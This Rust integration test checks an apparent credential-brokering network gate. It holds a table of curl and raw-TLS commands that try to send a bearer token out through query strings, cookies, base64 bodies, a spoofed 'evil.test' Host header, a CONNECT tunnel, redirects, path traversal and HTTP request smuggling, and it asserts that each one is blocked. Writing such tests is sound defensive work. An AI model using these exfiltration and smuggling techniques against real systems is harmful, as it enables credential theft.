//! Ways out for a placeholder or a credential through allowed and declared hosts.

use anyhow::{Context as _, Result, ensure};
use portcullis_it::{Scene, User, World};

use super::{SECRET, before, folders, logs, marked, run, section};
use crate::network::PROGRAM;

as_each_user!(ways_out_are_closed, a_client_of_another_version_is_told);

/// Requests that must not reach the server as they are, each with a text that the client gets in their place.
///
/// `say` sends bytes in the session's TLS and prints the answer.
const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "another path than `for` covers",
        "curl -sS -d a=b -H \"Authorization: Bearer $FORGE_TOKEN\" $B/theirs",
        "host.credential-purpose",
    ),
    (
        "a path with dots",
        "curl -sS --path-as-is -d a=b -H \"Authorization: Bearer $FORGE_TOKEN\" $B/mine/../theirs",
        "host.ambiguous-path",
    ),
    (
        "a path with encoded dots",
        "curl -sS --path-as-is -d a=b -H \"Authorization: Bearer $FORGE_TOKEN\" $B/mine/%2e%2e/theirs",
        "host.ambiguous-path",
    ),
    ("in the query", "curl -sS \"$B/a?t=$FORGE_TOKEN\"", "host.placeholder"),
    ("in another header", "curl -sS -H \"X-Other: $FORGE_TOKEN\" $B/a", "host.placeholder"),
    ("in a cookie", "curl -sS -H \"Cookie: a=$FORGE_TOKEN\" $B/a", "host.placeholder"),
    ("in the body", "curl -sS -d \"t=$FORGE_TOKEN\" $B/mine/a", "host.placeholder"),
    (
        "in the body, encoded",
        "printf 'x:%s' $FORGE_TOKEN | base64 -w0 | curl -sS -d @- $B/mine/a",
        "host.placeholder",
    ),
    ("in the wrong form", "curl -sS -u \"x:$FORGE_TOKEN\" $B/a", "host.placeholder"),
    (
        "to another host in plain HTTP",
        "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" http://example.com/a",
        "reset by peer",
    ),
    (
        "with another Host",
        "curl -sS -H 'Host: evil.test' -H \"Authorization: Bearer $FORGE_TOKEN\" $B/a",
        "host.other-server",
    ),
    (
        "two hosts",
        "say 'GET /a HTTP/1.1\\r\\nHost: allowed.test:9443\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "host.malformed",
    ),
    (
        "two credentials",
        "say \"GET /a HTTP/1.1\\\\r\\\\nHost: allowed.test:9443\\\\r\\\\nAuthorization: Bearer $FORGE_TOKEN\\\\r\\\\nAuthorization: x\\\\r\\\\n\\\\r\\\\n\"",
        "host.malformed",
    ),
    (
        "an absolute target elsewhere",
        "say 'GET https://evil.test/a HTTP/1.1\\r\\nHost: allowed.test:9443\\r\\n\\r\\n'",
        "host.other-server",
    ),
    (
        "a tunnel",
        "say 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test:9443\\r\\n\\r\\n'",
        "host.malformed",
    ),
    (
        "another protocol",
        "say 'GET /a HTTP/1.1\\r\\nHost: allowed.test:9443\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n'",
        "host.brokered-upgrade",
    ),
    (
        "an answer that is compressed",
        "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" $B/gzip",
        "host.unreadable-answer",
    ),
    (
        "writing to a host that is read only",
        "curl -sS -d a=b https://allowed.test:9444/open/a",
        "host.request-rule",
    ),
    ("another path there", "curl -sS https://allowed.test:9444/closed", "host.request-rule"),
    (
        "another account there",
        "curl -sS -H 'Authorization: Bearer other' https://allowed.test:9444/open/a",
        "host.other-account",
    ),
    (
        "a key in the query there",
        "curl -sS 'https://allowed.test:9444/open/a?api_key=other'",
        "host.other-account",
    ),
    (
        "another account in the body of a request that reads",
        "curl -sS -X GET -d token=other https://allowed.test:9444/open/a",
        "host.other-account",
    ),
    (
        "to another host, by a redirect",
        "curl -sS -L --location-trusted -H \"Authorization: Bearer $FORGE_TOKEN\" $B/away",
        "host.placeholder",
    ),
    (
        "the same host on another port, in plain HTTP",
        "curl -sS -d a=b http://allowed.test/a",
        "host.request-rule",
    ),
    (
        "a program that does not trust the session",
        "curl -sS --cacert /etc/hostname $B/a; env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS $B/a",
        "certificate",
    ),
];

/// Requests whose answer repeats the credential.
const ECHOES: &[&str] = &[
    "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" $B/echo",
    "curl -sS -D - -H \"Authorization: Bearer $FORGE_TOKEN\" $B/echo-header",
    "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" $B/echo-chunked",
    "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" -H 'Range: bytes=0-5' $B/echo",
    "git ls-remote $B/git/repo.git >/dev/null; curl -sS -u \"me:$(echo $PIP_INDEX_URL | sed 's,.*me:\\(.*\\)@.*,\\1,')\" $B/echo",
    "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" $B/a >/dev/null; curl -sS $B/last",
    "curl -sS -D - -H \"Authorization: Bearer $FORGE_TOKEN\" $B/redirect",
];

/// A client that speaks neither of the versions that the gate speaks.
const OTHER_VERSION: &str =
    "openssl s_client -alpn h3 -connect allowed.test:9443 -servername allowed.test </dev/null";

/// Says a text to the server in TLS of the session, and prints the answer.
const SAY: &str = "say() { printf \"$1\" | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE \
                   -connect allowed.test:9443 -servername allowed.test -ign_eof 2>/dev/null; }\n";

fn a_client_of_another_version_is_told(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let finished = run(&world, &scene, OTHER_VERSION)?;
    let told = "it offers other versions of HTTP than 1.1 and 2; the program has to speak HTTP/1.1 or HTTP/2";
    ensure!(finished.stderr.contains(told), "{finished:#?}");
    for (offered, agreed) in [("h3,http/1.1", "http/1.1"), ("h2,http/1.1", "http/1.1"), ("h2", "h2")] {
        let finished = run(&world, &scene, &OTHER_VERSION.replace("h3", offered))?;
        let agreed = format!("ALPN protocol: {agreed}");
        ensure!(finished.stdout.contains(&agreed), "the control, {offered}: {finished:#?}");
    }
    Ok(())
}

fn ways_out_are_closed(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let smuggled = "say \"POST /mine/a HTTP/1.1\\\\r\\\\nHost: allowed.test:9443\\\\r\\\\nAuthorization: Bearer $FORGE_TOKEN\\\\r\\\\n\
                    Content-Length: 4\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n\
                    0\\\\r\\\\n\\\\r\\\\nGET /smuggled HTTP/1.1\\\\r\\\\nHost: allowed.test:9443\\\\r\\\\n\\\\r\\\\n\"";
    let scripts: Vec<&str> = (ATTACKS.iter().map(|(_, script, _)| *script))
        .chain(ECHOES.iter().copied())
        .chain([smuggled, "curl -sS https://allowed.test:9444/open/a"])
        .collect();
    let finished = run(&world, &scene, &(before(&folders()?) + SAY + &marked(&scripts)))?;
    for (number, (name, _, wanted)) in ATTACKS.iter().enumerate() {
        let output = section(&finished.stdout, number).with_context(|| format!("{finished:#?}"))?;
        ensure!(output.contains(wanted), "{name}: {output}\n{finished:#?}");
    }
    // The header of a password, whose base64 is repeated in base64 and in hexadecimal.
    for form in ["YldVNmN6Tmpjak4w", "62575536637a4e6a63", "N6Tmpjak4wTFVO", "637a4e6a636a4e30"] {
        ensure!(!finished.stdout.contains(form), "{form}: {finished:#?}");
    }
    for (number, script) in ECHOES.iter().enumerate() {
        let output = section(&finished.stdout, ATTACKS.len() + number)?;
        ensure!(output.contains("****"), "{script}: {output}\n{finished:#?}");
    }
    let last = section(&finished.stdout, ATTACKS.len() + ECHOES.len() + 1)?;
    let told = "stopped on the way to example.com:80: the placeholder of the credential `forge`";
    ensure!(finished.stderr.contains(told), "{finished:#?}");
    ensure!(last.contains("REACHED"), "the control: {last}\n{finished:#?}");
    ensure!(!finished.stdout.contains(SECRET) && !finished.stderr.contains(SECRET), "{finished:#?}");
    let stored =
        std::fs::read_to_string(scene.at("world").join("requests")).context("what the servers stored")?;
    for (what, text) in [
        ("a placeholder", "pcx_"),
        ("a foreign host", "evil.test"),
        ("another account", "other"),
        ("a forbidden path", "theirs"),
    ] {
        ensure!(!stored.contains(text), "{what} arrived: {stored}");
    }
    ensure!(!stored.contains("GET /smuggled"), "a second request arrived: {stored}");
    ensure!(!logs(&scene)?.contains(SECRET));
    Ok(())
}
